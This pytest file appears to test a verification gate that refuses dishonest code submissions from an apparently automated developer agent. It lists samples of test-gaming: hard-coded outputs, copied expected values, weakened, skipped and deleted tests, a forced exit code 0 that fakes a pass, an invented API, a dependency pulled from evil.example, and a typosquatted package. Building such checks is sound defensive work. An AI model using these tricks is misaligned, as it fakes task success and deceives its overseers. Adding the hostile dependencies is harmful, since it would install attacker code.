"""A developer that lies is refused at `verified` by the check that is meant for it, and the honest twin lands."""

from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.act.stage import Play, Stage
from tests.act.verifying import Evidence
from tests.program import inside

GOOD = "def double(n):\n    return n * 2\n"
HONEST = ("self.assertEqual(double(2), 4)", "self.assertEqual(double(5), 10)")
KEPT = """\
import unittest

from src.old import old
from tests.lent import lent


class TestOld(unittest.TestCase):
    def test_one(self):
        self.assertEqual(old(1), 2)
        self.assertEqual(old(2), 3)

    def test_two(self):
        self.assertEqual(old(lent()), 10)
"""
LENT = "def lent():\n    return 9\n"
TRUTH = """\
import unittest

import src


class TestTruth(unittest.TestCase):
    def test_all(self):
        import importlib, pkgutil
        for one in pkgutil.iter_modules(src.__path__):
            module = importlib.import_module("src." + one.name)
            if hasattr(module, "double"):
                self.assertEqual([module.double(n) for n in (2, 5, 7)], [4, 10, 14])
"""


class Lie(NamedTuple):
    """What a developer does, and the check, or the lens of a finding, that refuses it."""

    does: Callable[[Evidence], Play]
    check: str
    says: str
    truth: bool = False
    """Whether a person's own test stands there."""


LIES = {
    "a hard-coded value": Lie(
        lambda stage: stage.does("def double(n):\n    return {2: 4, 5: 10}.get(n, 0)\n", *HONEST),
        "mutants",
        "`(0 + 1)` for `0`",
    ),
    "a hard-coded value under a person's own test": Lie(
        lambda stage: stage.does("def double(n):\n    return 10 if n > 2 else 4\n", *HONEST),
        "tests",
        "[4, 10, 10] != [4, 10, 14]",
        truth=True,
    ),
    "a test that sees whether there is something": Lie(
        lambda stage: stage.does(
            GOOD, HONEST[0][:0] + "self.assertIsInstance(double(2), int)", "self.assertTrue(double(5) > 0)"
        ),
        "mutants",
        "Every test passes with this line changed",
    ),
    "an expected output that is copied from the code": Lie(
        lambda stage: stage.does(
            "def double(n):\n    return n + 2\n",
            "told = double(2)\n        self.assertEqual(double(2), told)",
            "told = double(5)\n        self.assertEqual(double(5), told)",
        ),
        "mutants",
        "Every test passes with this line changed",
    ),
    "truth that is written anew": Lie(
        lambda stage: stage.does(GOOD, *HONEST, **{"truth/test_truth.py": TRUTH.replace("14", "15")}),
        "oracle",
        "truth/test_truth.py",
        truth=True,
    ),
    "a weakened test": Lie(
        lambda stage: stage.does(
            GOOD, *HONEST, **{"tests/test_old.py": KEPT.replace("        self.assertEqual(old(2), 3)\n", "")}
        ),
        "kept-tests",
        "asserts no more",
    ),
    "a test that allows for anything": Lie(
        lambda stage: stage.does(
            GOOD,
            *HONEST,
            **{"tests/test_old.py": KEPT.replace("Equal(old(2), 3)", "AlmostEqual(old(2), 3, delta=100)")},
        ),
        "kept-tests",
        "asserts no more",
    ),
    "a test that is skipped by what it is lent": Lie(
        lambda stage: stage.does(
            GOOD,
            *HONEST,
            **{"tests/lent.py": "import unittest\n\n\ndef lent():\n    raise unittest.SkipTest('x')\n"},
        ),
        "evidence",
        "do not run any more: tests/test_old.py::TestOld::test_two.",
    ),
    "a runner that ends as if all were well": Lie(
        lambda stage: stage.does(
            f"import atexit\nimport os\n\natexit.register(os._exit, 0)\n\n\n{GOOD}",
            *HONEST,
            **{"src/old.py": "def old(n):\n    return n + 1 if n < 3 else 0\n"},
        ),
        "tests",
        "its own report says that tests failed: tests.test_old.TestOld::test_two.",
    ),
    "a deleted test": Lie(
        lambda stage: stage.does(GOOD, *HONEST, **{"tests/test_old.py": None}),
        "kept-tests",
        "tests/test_old.py::TestOld::test_one",
    ),
    "a test that asserts nothing": Lie(
        lambda stage: stage.does(GOOD, HONEST[0], "double(5)"), "asserting-tests", "::Test::test_2 (line"
    ),
    "an invented API": Lie(
        lambda stage: stage.does("from src.old import older\n\n\ndef double(n):\n    return older(n)\n", *HONEST),
        "known-imports",
        "older",
    ),
    "a known dependency from another place": Lie(
        lambda stage: stage.does(GOOD, *HONEST, **{"requirements.txt": "requests @ git+https://evil.example/r\n"}),
        "known-dependencies",
        "@ git+https://evil.example/r",
    ),
    "a look-alike dependency": Lie(
        lambda stage: stage.does(GOOD, *HONEST, **{"requirements.txt": "requests\nreqeusts\n"}),
        "known-dependencies",
        "reqeusts",
    ),
}


@pytest.fixture(autouse=True)
def _quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Stage, "run", staticmethod(inside))


def stood(folder: Path, *, truth: bool) -> Evidence:
    """A repository with a test that stands, a dependency, and the truth of a person where that is asked for."""
    more = "oracle: ['truth/**']\n" if truth else ""
    stage = Evidence(folder, f"evidence: {{mutants: 8}}\n{more}", rounds=1)
    files = {"tests/test_old.py": KEPT, "tests/lent.py": LENT, "requirements.txt": "requests\n"}
    files |= {"truth/__init__.py": "", "truth/test_truth.py": TRUTH} if truth else {}
    stage.commit(files, "Before\n\nPolicy: x")
    path = stage.path(stage.first)
    told = (stage.repo / path).read_text(encoding="utf-8")
    wider = "`src/old.py`, `tests/test_old.py`, `tests/lent.py`, `requirements.txt`, `truth/**`"
    stage.commit({path: told.replace("`src/old.py`", wider)}, "Widen")
    return stage


@pytest.mark.parametrize("name", LIES)
def test_a_lie_is_refused_by_the_check_that_is_meant_for_it(tmp_path: Path, name: str) -> None:
    lie = LIES[name]
    stage = stood(tmp_path, truth=lie.truth)
    before = stage.tip()
    stage.play({"1/dev": lie.does(stage)})
    stage.bmad("act", stage.first, code=4)
    assert stage.failed() == ([] if lie.check == "mutants" else [lie.check])
    told = [one["content"] for one in stage.events(stage.first)]
    found = [one for content in told for one in content.get("findings", ())]
    words = [*(one["claim"] for one in found), *(each for content in told for each in content.get("words", ()))]
    assert any(lie.says in each for each in words), words
    assert {one["lens"] for one in found} == ({"mutants"} if lie.check == "mutants" else set())
    assert stage.tip() == before, "nothing of it has landed"


def test_the_honest_twin_of_all_of_them_lands(tmp_path: Path) -> None:
    stage = stood(tmp_path, truth=True)
    before = stage.tip()
    line = "        self.assertEqual(old(2), 3)\n"
    more = KEPT.replace(line, f"{line}{line.replace('2), 3', '9), 10')}")
    code = "from src.old import old\n\n\ndef double(n):\n    return old(n) + n - 1\n"
    lent = LENT.replace("9", "8 + 1")
    stage.play({"1/dev": stage.does(code, *HONEST, **{"tests/test_old.py": more, "tests/lent.py": lent})})
    stage.bmad("act", stage.first)
    made = stage.record(stage.first)
    assert made["mutants"]["tried"] > 3
    assert made["mutants"]["survived"] == 0
    stage.gate(before, level="verified")
